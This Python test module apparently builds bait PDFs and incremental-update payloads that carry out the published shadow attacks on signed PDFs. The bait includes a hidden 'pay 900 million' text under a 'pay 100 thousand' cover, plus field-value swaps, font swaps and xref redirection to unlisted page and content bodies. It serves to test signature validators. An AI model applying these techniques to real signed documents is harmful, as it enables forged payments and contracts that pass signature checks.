"""Shadow attacks: what shall appear later is prepared before the signature and switched on after it.

Source: Mainka, Mladenov and Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021. The
bait is built here: a form, a cover, and second copies of pages and contents that no table lists.
"""

import re
from collections.abc import Callable
from functools import partial

from tests.attacks.containers import NotApplicable
from tests.attacks.writing import appended, shape, stream, table, trailer
from tests.documents.pdf.conftest import Office

Make = Callable[[bytes], bytes]
FORM = b"<</Type/XObject/Subtype/Form/BBox[0 0 500 40]/Resources<</Font<</F 5 0 R>>>>/Length %d>>stream\n%s\nendstream"
AMOUNT = b"BT /F 12 Tf 2 5 Td (%s) Tj ET"


def form(content: bytes) -> bytes:
    return FORM % (len(content), content)


def bait() -> bytes:
    """A paper whose reader sees a harmless cover and a field; the rest waits."""
    listed = {
        1: b"<</Type/Catalog/Pages 2 0 R/AcroForm 9 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Annots[11 0 R]"
        b"/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>>>",
        4: stream(b"BT /F 14 Tf 90 700 Td (CHI 900 TRIEU) Tj ET 1 0 0 1 80 690 cm /X Do"),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>",
        6: form(b"1 1 1 rg 0 0 500 40 re f 0 g " + AMOUNT % b"CHI 100 NGHIN"),
        8: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 10 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        9: b"<</Fields[11 0 R]/DR<</Font<</F 5 0 R>>>>/DA(/F 12 Tf 0 g)/SigFlags 3>>",
        10: stream(b"BT /F 14 Tf 90 700 Td (CHI 900 TY) Tj ET"),
        11: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(SoTien)/V(100)/F 4/Rect[90 600 290 620]/P 3 0 R"
        b"/DA(/F 12 Tf 0 g)/AP<</N 12 0 R>>>>",
        12: form(AMOUNT % b"100"),
    }
    pdf, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", {}
    for number, written in listed.items():
        places[number] = len(pdf)
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    # Second bodies of the page tree and of the contents: no table lists them yet.
    pdf += b"2 0 obj\n<</Type/Pages/Kids[8 0 R]/Count 1>>\nendobj\n"
    pdf += b"4 0 obj\n" + stream(b"BT /F 14 Tf 90 700 Td (CHI 900 TY) Tj ET") + b"\nendobj\n"
    start = len(pdf)
    rows = [
        b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 00001 f \n" for n in range(1, 13)
    ]
    pdf += b"xref\n0 13\n0000000007 65535 f \n" + b"".join(rows)
    return pdf + b"trailer\n<</Size 13/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % start


def attacks(office: Office) -> dict[str, Make]:
    del office
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(SoTien)/V(%s)/F %d/Rect[90 600 290 620]/P 3 0 R"
        b"/DA(/F 12 Tf 0 g)/AP<</N %d 0 R>>>>"
    )
    return {
        "hide-1 cover becomes something else": partial(
            _object, number=6, other=b"<</Type/Metadata/Subtype/XML>>"
        ),
        "hide-1 cover becomes empty": partial(_object, number=6, other=form(b"")),
        "hide-1 cover freed": freed,
        "hide-2 field hidden": partial(_object, number=11, other=field % (b"100", 2, 12)),
        "hide-2 field drawn empty": partial(_object, number=12, other=form(b"")),
        "replace-1 another value": partial(_object, number=11, other=field % (b"900000", 4, 12)),
        "replace-1 value and appearance": value_and_appearance,
        "replace-2 another font": partial(
            _object, number=5, other=b"<</Type/Font/Subtype/Type1/BaseFont/ZapfDingbats>>"
        ),
        "hide-and-replace-1 page tree": partial(_table_only, number=2),
        "hide-and-replace-2 contents": partial(_table_only, number=4),
    }


def _bait_only(pdf: bytes) -> None:
    if b"(SoTien)" not in pdf:
        raise NotApplicable


def _object(pdf: bytes, number: int, other: bytes) -> bytes:
    _bait_only(pdf)
    return appended(pdf, {number: other})


def value_and_appearance(pdf: bytes) -> bytes:
    _bait_only(pdf)
    new = shape(pdf).size + 1
    written = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(SoTien)/V(900)/F 4/Rect[90 600 290 620]/P 3 0 R"
        b"/DA(/F 12 Tf 0 g)/AP<</N %d 0 R>>>>" % new
    )
    return appended(pdf, {new: form(AMOUNT % b"900"), 11: written})


def freed(pdf: bytes) -> bytes:
    _bait_only(pdf)
    start = len(pdf)
    rows = b"xref\n6 1\n0000000000 00001 f \n"
    return pdf + rows + trailer(shape(pdf)) + b"startxref\n%d\n%%%%EOF\n" % start


def _table_only(pdf: bytes, number: int) -> bytes:
    """Not one object is added: the new table names the second body."""
    _bait_only(pdf)
    bodies = [match.start() for match in re.finditer(rb"(?<=\n)%d 0 obj" % number, pdf)]
    start = len(pdf)
    return pdf + table({number: bodies[1]}) + trailer(shape(pdf)) + b"startxref\n%d\n%%%%EOF\n" % start
